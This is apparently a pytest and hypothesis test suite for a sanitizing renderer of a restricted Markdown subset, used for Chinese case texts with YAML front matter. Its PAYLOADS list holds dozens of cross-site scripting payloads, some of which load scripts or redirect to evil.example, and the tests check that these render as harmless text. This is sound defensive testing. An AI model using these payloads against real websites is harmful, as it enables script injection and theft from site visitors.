"""The text of a case: every refusal with its place, and nothing of it becomes markup that is not ours."""

import re
import time
from typing import Any

import html5lib
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markupsafe import Markup

from sanshe.case_text import (
    FLAWS,
    MAX_BLOCKS,
    MAX_CHARS,
    Figure,
    figures,
    look,
    plain_text,
    render,
    split,
)
from sanshe.yaml_source import MAX_BYTES, MAX_FLAWS, Flaw

RELAXED = settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])

ALLOWED: dict[str, set[str]] = {
    **{tag: set() for tag in ("p", "blockquote", "ul", "li", "em", "strong", "br", "figure")},
    **{tag: set() for tag in ("table", "thead", "tbody", "tr", "th", "td")},
    "h2": {"id"},
    "h3": {"id"},
    "ol": {"start"},
    "img": {"src", "alt"},
}


def picture(file: str, alt: str) -> Markup:
    return Markup('<figure><img src="pictures/{}" alt="{}"></figure>').format(file, alt)


def parsed(html: str) -> Any:
    """`html` as a browser reads it."""
    return html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)


def assert_is_harmless(html: str) -> None:
    for tag in list(parsed(html).iter())[1:]:
        assert tag.tag in ALLOWED, (tag.tag, html)
        assert set(tag.attrib) <= ALLOWED[tag.tag], (tag.attrib, html)
        if tag.tag == "img":
            assert re.fullmatch(r"pictures/[a-z0-9-]+\.(jpg|jpeg|png|webp)", tag.attrib["src"])
        assert re.fullmatch(r"case-[0-9]+", tag.attrib.get("id", "case-1"))


def shown(body: str) -> str:
    return str(render(body, picture))


# ---------------------------------------------------------------- front matter


def test_the_two_parts_know_their_places_in_the_file() -> None:
    text = "---\ntitle: 议事厅\npictures:\n  - file: a.jpg\n    alt: 讨论\n---\n\n正文\n"
    front, body, line = split(text.encode())
    assert front.flaws == ()
    assert front.data == {"title": "议事厅", "pictures": [{"file": "a.jpg", "alt": "讨论"}]}
    assert (body, line) == ("\n正文\n", 7)
    assert front.text == text
    span = front.span(("pictures", 0, "alt"))
    assert (span.line, span.column) == (5, 10)
    assert front.span(("title",), of_key=True).line == 2


def test_keys_in_the_body_are_not_the_front_matters() -> None:
    front, _, _ = split("---\ntitle: 甲\n---\nagency: 乙\n".encode())
    assert front.data == {"title": "甲"}
    assert front.span(("agency",)).line == 2


@pytest.mark.parametrize("mark", [b"", b"\xef\xbb\xbf"])
@pytest.mark.parametrize("newline", ["\n", "\r\n"])
@pytest.mark.parametrize("end", ["", "\n", "\n\n"])
def test_marks_and_newlines_of_windows(mark: bytes, newline: str, end: str) -> None:
    text = f"---\ntitle: 甲\n# 注\ndate: 乙\n--- \n正文{end}"
    front, body, line = split(mark + text.replace("\n", newline).encode())
    assert front.data == {"title": "甲", "date": "乙"}
    assert (body.replace(newline, "\n"), line) == (f"正文{end}", 6)
    assert front.span(("date",)).line == 4


def test_a_file_may_end_with_its_second_fence() -> None:
    assert split(b"---\na: b\n---")[1:] == ("", 3)
    assert split(b"---\na: b\n---\n")[1:] == ("", 4)


@pytest.mark.parametrize(
    ("data", "rule", "place", "said"),
    [
        ("", "case-front-matter", (1, 1), "第一行不是「---」"),
        ("标题: 甲\n", "case-front-matter", (1, 1), "第一行不是「---」"),
        ("--- a: b\n---\n", "case-front-matter", (1, 1), "第一行不是「---」"),
        ("\n\n---\na: b\n---\n", "case-front-matter", (3, 1), "上面不能有空行"),
        ("－－－\na: b\n---\n", "case-front-matter", (1, 1), "写的是「－－－」"),
        ("---\na: b\n", "case-front-matter", (1, 1), "没有收尾"),
        ("---\na: b\n———\n正文", "case-front-matter", (3, 1), "写的是「———」"),
        ("---\na: b\n----\n正文", "case-front-matter", (3, 1), "写的是「----」"),
        ("---\na: b\n\u200b---\n正文", "case-front-matter", (3, 1), "写的是「---」"),
        ("---\na: b\n————\n正文\n---\n", "case-front-matter", (3, 1), "写的是「————」"),
        ("---\n---\n正文", "case-front-matter", (1, 1), "之间没有内容"),
        ("---\n# 注\n\n---\n正文", "case-front-matter", (1, 1), "之间没有内容"),
        ("---\ntitle：甲\n---\n正文", "yaml-full-width", (2, 6), "中文冒号"),
        ("---\na: 1\na: 2\n---\n正文", "yaml-duplicate-key", (3, 1), "已经写过"),
        ("---\na: &x 1\n---\n正文", "yaml-feature", (2, 4), "锚点"),
        ("---\na: 甲\u200b\n---\n正文", "yaml-invisible", (2, 5), "看不见"),
        ("\ufeff\ufeff---\na: 1\n---\n正文", "yaml-invisible", (1, 1), "看不见"),
        ("---\na: 1\n---\n\0", "yaml-invisible", (4, 1), "控制字符"),
    ],
)
def test_what_is_wrong_with_it(data: str, rule: str, place: tuple[int, int], said: str) -> None:
    front, _, _ = split(data.encode())
    assert front.data is None
    flaw = front.flaws[0]
    assert (flaw.rule, flaw.span.line, flaw.span.column) == (rule, *place)
    assert said in flaw.message, flaw.message


def test_encodings_are_told_as_for_every_file() -> None:
    text = "---\ntitle: 议事厅\n---\n正文\n"
    for encoding, name in (("gbk", "GBK"), ("utf-16", "UTF-16")):
        (flaw,) = split(text.encode(encoding)).front.flaws
        assert flaw.rule == "yaml-encoding"
        assert name in flaw.message
    (flaw,) = split("---\na: b\n---\n".encode("utf-16-le")).front.flaws
    assert flaw.rule == "yaml-encoding"


def test_the_whole_file_has_a_limit() -> None:
    head = b"---\na: b\n---\n"
    fits = head + b"x" * (MAX_BYTES - len(head))
    assert split(fits).front.flaws == ()
    (flaw,) = split(fits + b"x").front.flaws
    assert (flaw.rule, "图片" in flaw.fix) == ("yaml-too-big", True)


@RELAXED
@given(st.binary(max_size=200) | st.text("-—\n\r:a #　\ufeff", max_size=60).map(str.encode))
def test_any_bytes_can_be_split(data: bytes) -> None:
    front, body, line = split(data)
    lines = data.decode("utf-8", "replace").split("\n")
    assert (front.data is None) == any(flaw.severity == "error" for flaw in front.flaws)
    assert 1 <= line <= len(lines)
    assert front.data is None or front.text.endswith(body)
    for flaw in front.flaws:
        assert 1 <= flaw.span.line <= flaw.span.end_line <= len(lines)


# ---------------------------------------------------------------- the subset

GOOD = """## 背景

　　这个小区建于*一九八五年*，**没有电梯**。
居民说：“上楼难。”三层以上 100 户。

- 甲
- 乙
  1. 一
  2. 二

> 从前没人管。

![居民（代表）在议事厅](yi-shi-ting.jpg)

### 做法

| 月份 | 人次 |
|------|-----:|
| 三月 | 120  |

详见[通知](https://www.example.gov.cn/tz?id=1)。3 * 4 = 12，____ 留空，\\*不是加粗\\*。
"""


def test_the_subset_is_accepted_and_shown() -> None:
    assert look(GOOD) == []
    html = shown(GOOD)
    assert_is_harmless(html)
    for part in (
        '<h2 id="case-1">背景</h2>',
        "<p>这个小区建于<em>一九八五年</em>，<strong>没有电梯</strong>。居民说：",
        "<ul><li>甲</li><li>乙<ol><li>一</li><li>二</li>",
        "<blockquote><p>从前没人管。</p>",
        '<figure><img src="pictures/yi-shi-ting.jpg" alt="居民（代表）在议事厅"></figure>',
        '<h3 id="case-2">做法</h3>',
        "<thead><tr><th>月份</th><th>人次</th></tr>",
        "<td>三月</td><td>120</td>",
        "详见通知（https://www.example.gov.cn/tz?id=1）。3 * 4 = 12，____ 留空，*不是加粗*。",
    ):
        assert part in html.replace("\n", ""), part


@pytest.mark.parametrize(
    ("body", "html"),
    [
        ("甲\n乙", "<p>甲乙</p>"),
        ("甲\nb", "<p>甲 b</p>"),
        ("a  \nb", "<p>a<br>b</p>"),
        ("![甲](a.jpg)", '<figure><img src="pictures/a.jpg" alt="甲"></figure>'),
        ("看![甲](a.jpg)这", '<p>看这</p><figure><img src="pictures/a.jpg" alt="甲"></figure>'),
        ("3. 甲", '<ol start="3"><li>甲</li></ol>'),
        ("# 甲", "<p># 甲</p>"),
        ("#### 甲", "<p>#### 甲</p>"),
        ("[甲](http://a.cn)", "<p>甲</p>"),
        ("[https://a.cn](https://a.cn)", "<p>https://a.cn</p>"),
        ("[https://a.cn](https://b.cn)", "<p>https://a.cn（https://b.cn）</p>"),
        ("![甲](../a.jpg)", "<p>甲</p>"),
        ("![甲](https://a.cn/a.jpg)", "<p>甲</p>"),
        ("<b>甲</b>", "<p>&lt;b&gt;甲&lt;/b&gt;</p>"),
        ("&lt;b&gt;", "<p>&amp;lt;b&amp;gt;</p>"),
        ("```\n<b>\n```", "<p>``` &lt;b&gt; ```</p>"),
        ("甲\u202e乙", "<p>甲\ufffd乙</p>"),
        ("手机 138**0013**8000", "<p>手机 13*<strong>****</strong>****</p>"),
        (
            "![手机 13800138000](a.jpg)",
            '<figure><img src="pictures/a.jpg" alt="手机 13*********"></figure>',
        ),
    ],
)
def test_shown(body: str, html: str) -> None:
    assert shown(body).replace("\n", "") == html


def test_words_and_figures() -> None:
    assert plain_text(GOOD).split("\n")[:4] == [
        "背景",
        "这个小区建于一九八五年，没有电梯。居民说：“上楼难。”三层以上 100 户。",
        "甲",
        "乙",
    ]
    assert "example" not in plain_text(GOOD)
    assert "yi-shi-ting" not in plain_text(GOOD)
    assert figures(GOOD, 10) == [Figure("yi-shi-ting.jpg", "居民（代表）在议事厅", 22)]
    assert [f.line for f in figures("甲\n![乙](a.jpg)\n\n|![丙](b.png)|\n|-|\n")] == [2, 4]
    assert figures("![甲](../a.jpg) ![乙](A.jpg) ![丙](data:image/png;base64,AA)") == []


# Each body, the text that is to be pointed at, and a piece of what is said of it.
BEYOND = [
    ("甲 <b>乙</b>", "<b>", "HTML 标签「<b>」"),
    ("甲\n\n<div>\n乙\n</div>", "<div>", "HTML 标签"),
    ("甲 <!-- 乙 -->", "<!-- 乙 -->", "HTML 标签"),
    ("甲&nbsp;乙", "&nbsp;", "字符代码「&nbsp;」"),
    ("甲&#x202e;乙", "&#x202e;", "字符代码"),
    ("甲 `乙` 丙", "`乙`", "反引号"),
    ("甲\n\n```\n乙\n```", "```", "代码"),
    ("甲\n\n~~~html\n乙\n~~~", "~~~html", "代码"),
    ("甲\n\n    乙", "乙", "空了四格"),
    ("甲\n\n\t乙", "乙", "制表符"),
    ("# 甲", "# 甲", "一级标题"),
    ("> # 甲", "> # 甲", "一级标题"),
    ("#### 甲", "#### 甲", "二级和三级"),
    ("甲\n===", "===", "变成了标题"),
    ("甲\n---", "---", "变成了标题"),
    ("甲\n\n---\n\n乙", "---", "分隔线"),
    ("甲[^1]乙", "[^1]", "脚注"),
    ("甲\n\n[^1]: 乙", "[^1]: 乙", "脚注"),
    ("甲\n\n[^1]: 乙 丙", "[^1]:", "脚注"),
    ("甲\n\n[乙]: https://a.cn", "[乙]: https://a.cn", "定地址"),
    ("[a]: https://a.cn\n[a]: https://b.cn", "[a]: https://a.cn", "定地址"),
    ("甲[乙](javascript:alert(1))", "[乙](javascript:alert(1))", "https://"),
    ("甲[乙](JaVaScRiPt:x)", "[乙](JaVaScRiPt:x)", "https://"),
    ("甲[乙](data:text/html,x)", "[乙](data:text/html,x)", "https://"),
    ("甲[乙](http://a.cn)", "[乙](http://a.cn)", "https://"),
    ("甲[乙](//a.cn)", "[乙](//a.cn)", "https://"),
    ("甲[乙](../b.md)", "[乙](../b.md)", "https://"),
    ("甲[乙]()", "[乙]()", "https://"),
    ("甲[乙](https://a.cn@b.cn)", "[乙](https://a.cn@b.cn)", "https://"),
    ("甲[乙](https:a.cn)", "[乙](https:a.cn)", "https://"),
    ("快看！[乙](http://a.cn)", "[乙](http://a.cn)", "https://"),
    ("甲 <https://a.cn>", "<https://a.cn>", "尖括号"),
    ("![甲](https://a.cn/a.jpg)", "![甲](https://a.cn/a.jpg)", "同一文件夹"),
    ("![甲](//a.cn/a.jpg)", "![甲](//a.cn/a.jpg)", "同一文件夹"),
    ("![甲](data:image/png;base64,AA)", "![甲](data:image/png;base64,AA)", "同一文件夹"),
    ("![甲](../a.jpg)", "![甲](../a.jpg)", "同一文件夹"),
    ("![甲](b/a.jpg)", "![甲](b/a.jpg)", "同一文件夹"),
    ("![甲](图.jpg)", "![甲](图.jpg)", "同一文件夹"),
    ("![甲](a.svg)", "![甲](a.svg)", "同一文件夹"),
    ("![甲](a.jpg?x)", "![甲](a.jpg?x)", "同一文件夹"),
    ("![](a.jpg)", "![](a.jpg)", "没有写说明"),
    ("！[甲](a.jpg)", "！[甲](a.jpg)", "感叹号"),
    ("![甲]（a.jpg）", "![甲]（a.jpg）", "感叹号"),
    ("##甲", "##", "没有成为标题"),
    ("＃＃ 甲", "＃＃", "没有成为标题"),
    ("甲 **乙：**丙", "**", "没有成对"),
    ("> > > > 甲", "> > > > 甲", "层以上"),
    ("|甲|乙|\n|-|-|\n|丙|<i>|", "<i>", "HTML 标签"),
    ("|<i>|<i>|\n|-|-|", "<i>", "HTML 标签"),
    ("> 甲\n> 乙 <i>", "<i>", "HTML 标签"),
    ("- 甲\n  乙 <i>", "<i>", "HTML 标签"),
    ("## 甲 <i>", "<i>", "HTML 标签"),
    ("甲\n   乙 <i>", "<i>", "HTML 标签"),
    ("> 甲\n>   乙 <i>", "<i>", "HTML 标签"),
]


@pytest.mark.parametrize(("body", "place", "said"), BEYOND, ids=[each[0] for each in BEYOND])
@pytest.mark.parametrize("newline", ["\n", "\r\n"])
def test_what_is_beyond_it(body: str, place: str, said: str, newline: str) -> None:
    flaws = look(f"前一段。\n\n{body}".replace("\n", newline), 5)
    assert any(said in flaw.message for flaw in flaws), flaws
    flaw = next(flaw for flaw in flaws if said in flaw.message)
    assert flaw.rule == "case-body-markup"
    before = f"前一段。\n\n{body}"[: f"前一段。\n\n{body}".index(place, 6)]
    assert flaw.span.line == 5 + before.count("\n")
    assert flaw.span.column == len(before) - before.rfind("\n")
    assert flaw.span.end_column - flaw.span.column == len(place)
    assert flaw.fix.endswith("。")
    assert not any(re.search(r"[0-9]{6}", each.message + each.fix) for each in flaws)


def test_a_flaw_is_said_once() -> None:
    for body, _, _ in BEYOND:
        expected = 2 if body.startswith(("|<i>|<i>|", "甲 <b>乙")) else 1
        assert len(look(body)) == expected + ("]: https://b" in body), body


def test_cells_that_read_alike_are_told_apart() -> None:
    flaws = look("|<i>|<i>|\n|-|-|\n")
    assert [flaw.span.column for flaw in flaws] == [2, 6]


@pytest.mark.parametrize(
    "char", ["\0", "\x08", "\x1b", "\r", "\x85", "\u200b", "\u2028", "\u202e", "\u2066", "\ufeff"]
)
def test_what_nobody_sees(char: str) -> None:
    flaws = look(f"甲\n乙{char}丙\n\n丁 <b>", 3)
    assert (flaws[0].rule, flaws[0].span.line, flaws[0].span.column) == ("yaml-invisible", 4, 2)
    assert (flaws[-1].span.line, flaws[-1].span.column) == (6, 3)
    assert char not in shown(f"甲{char}乙")
    assert char not in plain_text(f"甲{char}乙")


def test_limits() -> None:
    assert look("甲\n\n" * MAX_BLOCKS) == []
    (flaw,) = look("甲\n\n" * (MAX_BLOCKS + 1))
    assert flaw.span.line == 2 * MAX_BLOCKS + 1
    assert look("甲" * MAX_CHARS) == []
    (flaw,) = look("甲" * (MAX_CHARS + 1))
    assert str(MAX_CHARS) in flaw.message
    assert len(plain_text("甲" * (MAX_CHARS + 1))) == MAX_CHARS
    assert len(look("<b> " * 500)) == MAX_FLAWS


def test_rules_have_pages() -> None:
    for text in FLAWS.values():
        assert re.fullmatch(r".+。\n\n为什么：.+。\n\n怎么改：.+。", text)


# ---------------------------------------------------------------- harm

PAYLOADS = r'''
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script
</title><script>alert(1)</script>
</textarea></style></noscript></template><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src=//evil.example/x.png>
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<img src="x" onerror="alert(1)"
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<iframe src=//evil.example></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<object data=javascript:alert(1)></object>
<embed src=javascript:alert(1)>
<base href=//evil.example/>
<meta http-equiv=refresh content="0;url=//evil.example">
<link rel=stylesheet href=//evil.example/x.css>
<style>@import '//evil.example/x.css';</style>
<form action=//evil.example><button>x</button></form>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<body onload=alert(1)>
<marquee onstart=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href=//evil.example>x</a>
<p style="background:url(//evil.example)">x</p>
<div id=__search class=md-main>x</div>
<!--><script>alert(1)</script>-->
<!-- --!><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<?php echo 1 ?><script>alert(1)</script>
<!DOCTYPE html><script>alert(1)</script>
--> ]]> <script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;img src=x onerror=alert(1)&#x3e;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
\<script\>alert(1)\</script\>
" onmouseover="alert(1)" x="
' autofocus onfocus='alert(1)
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java&#115;cript:alert(1))
[x](javascript&colon;alert(1))
[x](<javascript:alert(1)>)
[x](  javascript:alert(1) "t")
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](https://a.example" onclick="alert(1))
[x](https://a.example/"><script>alert(1)</script>)
[x](https://a.example 'a" onclick="alert(1)')
[<img src=x onerror=alert(1)>](https://a.example)
[![<b>](a.jpg)](javascript:alert(1))
![x](javascript:alert(1))
![x](//evil.example/x.png)
![x](https://evil.example/x.png)
![x](data:image/svg+xml,<svg/onload=alert(1)>)
![" onerror="alert(1)](a.jpg)
!["><script>alert(1)</script>](a.jpg)
![x](a.jpg"onerror="alert(1))
![x](a.jpg "x\" onerror=\"alert(1)")
![x](a.jpg){onerror=alert(1)}
![x](../../a.jpg)
<javascript:alert(1)>
<https://evil.example/"onclick="alert(1)>
<x@evil.example>
[x]: javascript:alert(1)
[x][x] [x]: <javascript:alert(1)>
[^1]: <script>alert(1)</script>
`<script>alert(1)</script>`
``` <script>alert(1)</script> ```
${alert(1)} {{ 7*7 }} {% include 'main.html' %}
--8<-- "mkdocs.yml"
# h1 {: onclick=alert(1) }
*<b*> **<script**> _<i_>
<b>**x</b>**
| <td onclick=alert(1)> | </table><script>alert(1)</script> |
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>
'''.strip().split("\n")
PLACES = (
    "{}",
    "## {}",
    "# {}",
    "{}\n===",
    "- {}",
    "1. {}",
    "> {}",
    "    {}",
    "\t{}",
    "```html\n{}\n```",
    "<div>\n{}\n</div>",
    "|甲|{}|\n|-|-|\n|{}|乙|",
    "**{}**",
    "*甲{}*",
    "[{}](https://a.example)",
    "[甲]({})",
    "[甲](<{}>)",
    "[甲](https://a.example/{})",
    "[甲](https://a.example '{}')",
    "![{}](a.jpg)",
    "![甲]({})",
    "![甲](a.jpg '{}')",
    "![甲][{}]\n\n[{}]: a.jpg",
    "[甲]\n\n[甲]: {}",
    "甲\n\n[^1]: {}",
)


def test_there_are_many() -> None:
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_harm_stays_text(payload: str) -> None:
    for place in PLACES:
        body = place.replace("{}", payload)
        html = shown(body)
        assert_is_harmless(html)
        look(body)


def test_harm_is_still_readable() -> None:
    """Nothing is thrown away in silence: what was typed stands on the page as text."""
    for payload in PAYLOADS:
        if payload.startswith("<") and "*" not in payload:
            text = "".join(parsed(shown(f"甲 {payload}")).itertext())
            assert text.strip() == f"甲 {payload}"


def test_a_callers_picture_is_escaped_unless_it_is_markup() -> None:
    html = str(render("![甲](a.jpg)", lambda file, alt: "<script>"))  # type: ignore[arg-type, return-value]
    assert html == "&lt;script&gt;\n"


MARKS = st.text(
    st.sampled_from("<>&\"'`*_[]()!#|-=:\\/~ \n\t\r\u200b\u202e\0ab1甲乙：！（）【】＃\ud800"),
    max_size=80,
)
PIECES = st.lists(
    st.sampled_from(
        [
            *PAYLOADS,
            "![甲](a.jpg)",
            "[甲](https://a.cn)",
            "\n",
            "\n\n",
            "> ",
            "- ",
            "|-|-|\n",
            "**",
            "    ",
            "## ",
        ]
    ),
    max_size=8,
).map("".join)


def assert_is_inside(flaw: Flaw, lines: list[str]) -> None:
    span = flaw.span
    assert (1, 1) <= (span.line, span.column) <= (span.end_line, span.end_column)
    assert span.end_line <= len(lines)
    assert span.column <= len(lines[span.line - 1]) + 1
    assert span.end_column <= len(lines[span.end_line - 1]) + 1


@RELAXED
@given(st.text(max_size=120) | MARKS | PIECES)
def test_any_text_is_harmless_and_its_flaws_lie_inside(body: str) -> None:
    assert_is_harmless(shown(body).replace("\ud800", ""))
    plain_text(body)
    lines = body.split("\n")
    for flaw in look(body):
        assert_is_inside(flaw, lines)
    for figure in figures(body):
        assert figure.file in lines[figure.line - 1] or "(" in body


@RELAXED
@given(st.text(max_size=80) | MARKS | PIECES)
def test_accepted_text_loses_nothing_but_marks(body: str) -> None:
    """Every letter of a body without flaws is on the page."""
    if not look(body):
        kept = "".join(parsed(shown(body)).itertext()) + "".join(f.alt for f in figures(body))
        for letter in ("甲", "乙", "b"):
            if "(" not in body:
                assert kept.count(letter) == body.count(letter)


DULL = ("[", "![", "]", "*", "_a_", "`a", "<", "<!--", "<?", "&", "\\", ">", "[](<", "[a](", "[^a]")
DULL_MORE = ("！[", "|a", "|-", "[a](https://b.cn)", "*a ", "a 138 ", "- ", "> \n")
DULL_LINES = ("- a\n", "##a\n", "[a]: b\n", "a|b\n-|-\n")


@pytest.mark.slow
@pytest.mark.parametrize("piece", [*DULL, *DULL_MORE, *DULL_LINES])
def test_no_body_takes_long(piece: str) -> None:
    body = piece * (MAX_CHARS // len(piece))
    began = time.process_time()
    look(body)
    shown(body)
    assert time.process_time() - began < 20
